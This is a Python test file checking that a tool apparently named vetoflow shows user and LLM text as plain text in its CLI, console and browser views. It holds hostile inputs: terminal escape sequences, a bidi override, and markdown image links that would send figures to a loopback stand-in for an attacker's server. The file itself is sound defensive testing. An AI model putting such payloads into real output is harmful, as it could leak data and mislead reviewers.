"""User and LLM text is shown as plain text (issue 12, defects 6 and 7): no markup, no raw escapes, no images."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import expect, sync_playwright

from tests.conftest import EXAMPLES
from tests.console_helpers import ANA, ensure_chromium, serve_console
from tests.fakes.bedrock_server import BedrockServer, converse_reply
from tests.test_browser import TIMEOUT_MS, login
from tests.test_cli import as_json, vetoflow
from vetoflow.config import Settings
from vetoflow.console import present
from vetoflow.console.new_run import _outcome
from vetoflow.context import Context
from vetoflow.llm.bedrock import BedrockSynthesizer
from vetoflow.plaintext import clean, md
from vetoflow.runs.store import open_service
from vetoflow.scenario import load_scenario

HOSTILE_NAME = "Kiosks [/] [bold]x[/bold] \x1b[2J\x1b]0;pwned\x07 \u202eevil"
HOSTILE_COMMENT = "ok [/] \x1b[31mred"


class LeakServer:
    """A loopback HTTP server standing in for an attacker's host: it counts every request it receives."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def local(tmp_path: Path) -> Settings:
    """SQLite only: these tests are about rendering, which no backend changes."""
    return Settings(home=tmp_path / "home", database_url=None)


@pytest.fixture
def leak() -> Iterator[LeakServer]:
    server = LeakServer()
    yield server
    server.close()


def _hostile_plan(tmp_path: Path) -> Path:
    data = load_scenario(EXAMPLES / "vetoed.yaml").model_dump(mode="json")
    data.update(name=HOSTILE_NAME)  # (a hostile currency is refused at start since the currency is a code)
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data))
    return path


@pytest.mark.slow  # whole `vetoflow` processes (or a browser): the full suite runs it
def test_cli_prints_markup_and_escape_sequences_in_user_text_as_text(local: Settings, tmp_path: Path) -> None:
    settings = local
    started = vetoflow(settings, "run", _hostile_plan(tmp_path))
    assert started.returncode == 3, started.stderr
    run_id = as_json(vetoflow(settings, "runs", "--json"))[0]["run_id"]
    results = [
        started,
        vetoflow(settings, "runs"),
        vetoflow(settings, "show", run_id),
        vetoflow(settings, "trace", run_id),
        vetoflow(settings, "approve", run_id, "--reviewer", "eve\x1b[8m", "--comment", HOSTILE_COMMENT),
        vetoflow(settings, "show", run_id),
    ]
    for result in results:
        assert "Traceback" not in result.stderr + result.stdout
        assert "MarkupError" not in result.stderr
        assert "\x1b" not in result.stdout + result.stderr  # no escape sequence reaches the terminal
        assert "\u202e" not in result.stdout
    assert [r.returncode for r in results[1:]] == [0, 0, 0, 0, 0]
    shown = results[-1].stdout
    assert "Kiosks [/] [bold]x[/bold] \\x1b[2J" in shown  # as written, with the escape made visible
    assert "[/]" in results[1].stdout
    assert 'eve\\x1b[8m: approve "ok [/] \\x1b[31mred"' in shown
    assert as_json(vetoflow(settings, "show", run_id, "--json"))["run"]["status"] == "completed"


@pytest.mark.slow  # whole `vetoflow` processes (or a browser): the full suite runs it
def test_cli_error_messages_carry_no_raw_escape(local: Settings, tmp_path: Path) -> None:
    settings = local
    started = vetoflow(settings, "run", _hostile_plan(tmp_path), "--json")
    run_id = as_json(started)["run"]["run_id"]
    assert vetoflow(settings, "reject", run_id, "--reviewer", "mal\x1b[2Jlory").returncode == 0
    again = vetoflow(settings, "approve", run_id, "--reviewer", "ana")
    assert again.returncode == 6
    assert "mal\\x1b[2Jlory" in again.stderr
    assert "\x1b" not in again.stderr


def test_plain_text_helpers_escape_controls_and_markdown() -> None:
    assert clean("a\x1bb\x07c\u202ed\ne") == "a\\x1bb\\x07c\\u202ed\\ne"
    assert clean("line one\nline two", multiline=True) == "line one\nline two"
    html = MarkdownIt("commonmark").render(md("![x](http://h/leak.png) <img src=x> **b** [l](http://h) `c`"))
    assert "<img" not in html
    assert "<a " not in html
    assert "<strong>" not in html
    assert "<code>" not in html


def test_console_renders_names_and_summaries_without_markdown(
    settings: Settings, bedrock: BedrockServer, leak: LeakServer
) -> None:
    image = f"![x]({leak.url}/leak.png?npv=576383)"
    bedrock.default = converse_reply(f"ROI 115.3% [1]. {image} <img src='{leak.url}/b.png'> [see]({leak.url}/c)")
    scenario = load_scenario(EXAMPLES / "profitable.yaml").model_copy(update={"name": f"Plan {image}"})
    with open_service(settings, Context(synthesizer=BedrockSynthesizer(settings, endpoint_url=bedrock.url))) as svc:
        view = svc.start(scenario)
    assert view.status == "completed"
    renderer = MarkdownIt("commonmark")
    for text in (present.headline(view), present.summary(view), _outcome(view)):
        html = renderer.render(text)
        assert "<img" not in html, html
        assert "<a " not in html, html
        assert "leak.png?npv=576383" in html  # shown, as text
    assert leak.hits == []


@pytest.mark.slow  # whole `vetoflow` processes (or a browser): the full suite runs it
def test_a_browser_opening_a_hostile_run_fetches_nothing(
    local: Settings, bedrock: BedrockServer, leak: LeakServer, tmp_path: Path
) -> None:
    settings = local
    image = f"![x]({leak.url}/leak.png?npv=2288263)"
    bedrock.default = converse_reply(f"Approved despite the veto. {image} <img src='{leak.url}/tag.png'>")
    context = Context(synthesizer=BedrockSynthesizer(settings, endpoint_url=bedrock.url))
    chromium = ensure_chromium()
    with serve_console(settings, context) as console:
        vetoed = load_scenario(EXAMPLES / "vetoed.yaml").model_copy(update={"name": f"Kiosks {image}"})
        run_id = console.service.start(vetoed).run.run_id
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=str(chromium), args=["--no-sandbox", "--disable-dev-shm-usage"]
            )
            try:
                page = browser.new_page(viewport={"width": 1440, "height": 900})
                login(page, console.url, *ANA)
                page.locator("#inbox-table >> text=Kiosks >> visible=true").first.click()
                headline = page.locator("#run-headline")
                expect(headline).to_contain_text("leak.png?npv=2288263", timeout=TIMEOUT_MS)
                page.locator("#run-comment textarea").fill(f"fine {image}")
                page.locator("#run-approve").click()
                expect(page.locator("#run-confirm-text")).to_contain_text("leak.png?npv=2288263", timeout=TIMEOUT_MS)
                assert page.locator("#run-confirm-text img").count() == 0
                page.locator("#run-confirm-yes").click()
                expect(page.locator("#run-summary")).to_contain_text("Approved despite the veto", timeout=TIMEOUT_MS)
                expect(page.locator("#run-summary")).to_contain_text("leak.png?npv=2288263")
                expect(page.locator("#run-history")).to_contain_text("fine ![x]")
                assert page.locator("#run-summary img, #run-headline img, #run-history img").count() == 0
                page.screenshot(path=tmp_path / "hostile.png", full_page=True)
            finally:
                browser.close()
        view = console.service.view(run_id)
    assert view.status == "completed"
    assert [(d.reviewer, d.comment) for d in view.decisions] == [("ana", f"fine {image}")]
    assert leak.hits == []
